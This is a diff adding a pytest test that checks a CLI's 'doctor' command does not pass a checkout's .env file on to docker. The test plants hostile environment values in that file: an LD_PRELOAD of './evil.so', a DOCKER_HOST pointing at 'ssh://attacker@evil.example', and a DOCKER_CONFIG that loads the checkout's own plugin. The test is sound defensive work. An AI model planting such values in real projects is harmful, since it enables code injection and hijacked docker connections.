@@ -235,3 +235,46 @@ def test_doctor_fix_still_repairs_hindsights_own_project_entry(cli, home, _isola
     assert _checks(result)["mcp.vscode.project.fixed"]["status"] == "ok"
     fixed = json.loads(target.path.read_text())["servers"]["hindsight"]
     assert [fixed["command"], *fixed["args"]] == [*clients.server_command(), "mcp"]
+
+
+# a docker CLI that writes down the environment it was started with
+FAKE_DOCKER = """#!/bin/sh
+{ echo "argv=$*"; env | grep -E '^(DOCKER_|LD_PRELOAD|COMPOSE_PROFILES)' ; } >> "$DOCKER_SEEN"
+exit 1
+"""
+PLANTED_ENV = {
+    # docker would load this directory's cli-plugins/docker-compose: the checkout's program
+    "DOCKER_CONFIG": "./.docker-config",
+    "DOCKER_HOST": "ssh://attacker@evil.example",
+    "DOCKER_CONTEXT": "evil",
+    "LD_PRELOAD": "./evil.so",
+}
+
+
+@pytest.mark.no_store
+@pytest.mark.parametrize("argv", [("doctor", "compose"), ("doctor", "--no-probe")])
+def test_a_checkouts_env_file_never_reaches_docker(cli, tmp_path, monkeypatch, argv) -> None:
+    """Compose files with an override (so doctor asks `docker compose config` to merge them) and a
+    `.env` naming where docker loads its plugins from and where it connects."""
+    tools = tmp_path / "bin"
+    tools.mkdir()
+    (tools / "docker").write_text(FAKE_DOCKER)
+    (tools / "docker").chmod(0o755)
+    seen = tmp_path / "docker-saw"
+    monkeypatch.setenv("DOCKER_SEEN", str(seen))
+    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
+    for name in PLANTED_ENV:
+        monkeypatch.delenv(name, raising=False)
+    checkout = tmp_path / "checkout"
+    checkout.mkdir()
+    (checkout / "compose.yaml").write_text("services:\n  app:\n    image: alpine\n")
+    (checkout / "compose.override.yaml").write_text(
+        "services:\n  app:\n    environment:\n      A: b\n"
+    )
+    (checkout / ".env").write_text("".join(f"{k}={v}\n" for k, v in PLANTED_ENV.items()))
+    monkeypatch.chdir(checkout)
+    cli(*argv, store=False)
+    saw = seen.read_text()
+    assert "argv=compose -f" in saw
+    for name in PLANTED_ENV:
+        assert f"{name}=" not in saw, saw
